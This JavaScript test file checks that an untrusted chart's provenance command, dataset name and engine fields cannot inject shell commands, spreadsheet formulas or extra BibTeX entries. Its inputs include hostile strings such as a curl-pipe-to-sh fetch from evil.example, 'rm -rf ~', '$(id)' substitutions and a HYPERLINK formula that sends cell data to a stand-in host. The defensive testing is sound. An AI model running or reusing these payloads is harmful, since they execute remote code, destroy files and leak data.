// @ts-check
// A chart may be a stranger's: what of it goes into a shell, a spreadsheet or a citation does nothing there.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { root } from '../../scripts/places.mjs';
import { bibtex } from '../../www/chart/take/cite.js';
import { readColumns } from '../../www/chart/read-columns.js';
import { sweepCommand } from '../../www/chart/take/command.js';
import { chartCsv } from '../../www/chart/take/csv.js';

const shipped = (/** @type {string} */ name, /** @type {string} */ format = 'json') => {
  const bytes = readFileSync(join(root, 'www', 'charts', `${name}.${format}`));
  return format === 'arrow' ? readColumns(new Uint8Array(bytes)) : JSON.parse(String(bytes));
};
/** @param {object} change */
const made = (change) => ({ ...shipped('mnist-figure'), ...change });

test('the command of a chart is a call of this program, or is made of its axes', () => {
  const argumentsOf = JSON.parse(readFileSync(join(root, 'scripts', 'charts.json'), 'utf8'));
  for (const { name, format } of JSON.parse(readFileSync(join(root, 'www', 'charts.json'), 'utf8'))) {
    const chart = shipped(name, format);
    assert.equal(chart.provenance.command.replace(' --resume', ''), `hash-phase sweep ${argumentsOf[name]}`, `${name} is what \`npm run charts\` makes`);
    assert.equal(sweepCommand(chart), `${chart.provenance.command} -o chart.json`, name);
  }
  const own = sweepCommand(made({ provenance: { ...shipped('mnist-figure').provenance, command: undefined } }));
  assert.match(own ?? '', /^hash-phase sweep --dataset mnist --preset figure --widths [\d,]+ --epochs [\d,]+ --samples [\d,]+ --seeds 3 -o chart\.json$/);
  const hostile = ['curl -s https://evil.example/x | sh\n', 'hash-phase sweep --dataset moons; rm -rf ~', 'hash-phase sweep --dataset $(id)', 'hash-phase sweep --dataset moons\nid', 'hash-phase sweep -o /etc/passwd', 'hash-phase sweep --output x', 'hash-phase sweep --dataset moons --weights /tmp', 'hash-phase sweep --overwrite', 'hash-phase sweep `id`', 'hash-phase merge a', ` hash-phase sweep`, `hash-phase sweep ${'--a=b '.repeat(20_000)}!`];
  for (const command of hostile) assert.equal(sweepCommand(made({ provenance: { ...shipped('mnist-figure').provenance, command } })), own, command.slice(0, 80));
});

test('no text of a chart is a formula in a spreadsheet, and numbers stay numbers', () => {
  const chart = made({ dataset: { ...shipped('mnist-figure').dataset, name: '=HYPERLINK("http://evil/?"&A2,"open")' } });
  const [, first] = chartCsv(chart).split('\r\n');
  assert.ok(first.startsWith('"\'=HYPERLINK(""http://evil/?""&A2,""open"")",figure,3,'), first);
  for (const name of ['+1', '-1', '@SUM(A1)', '\tx']) assert.ok(chartCsv(made({ dataset: { ...chart.dataset, name } })).includes(`\r\n'${name},figure`), name);
});

test('what a chart says of its engine does not break a citation', () => {
  const cited = bibtex(made({ provenance: { ...shipped('mnist-figure').provenance, crate: '0.1}, note={x', engine: 'cpu\n}\n@misc{y' } }));
  assert.equal(cited.match(/@/g)?.length, 2 + 1, 'the two entries, and the word that was no third');
  assert.equal(cited.match(/\{/g)?.length, cited.match(/\}/g)?.length);
});
